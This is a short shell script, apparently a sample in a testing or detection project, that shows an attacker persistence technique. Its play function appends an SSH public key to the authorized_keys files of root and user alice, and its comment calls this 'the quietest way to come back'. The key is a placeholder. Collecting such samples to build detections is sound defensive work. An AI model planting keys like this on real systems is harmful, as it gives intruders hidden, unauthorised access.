# SPDX-License-Identifier: Apache-2.0
#
# The quietest way to come back: no password, no program, one line in a file.
play() {
	mkdir -p /root/.ssh
	for home in /root /home/alice; do
		echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample nobody@nowhere' >>$home/.ssh/authorized_keys
		chmod 600 $home/.ssh/authorized_keys
	done
}

if [ "${SAMPLE:-}" = play ]; then play; else . "$(dirname "$0")/../recipe.sh"; fi
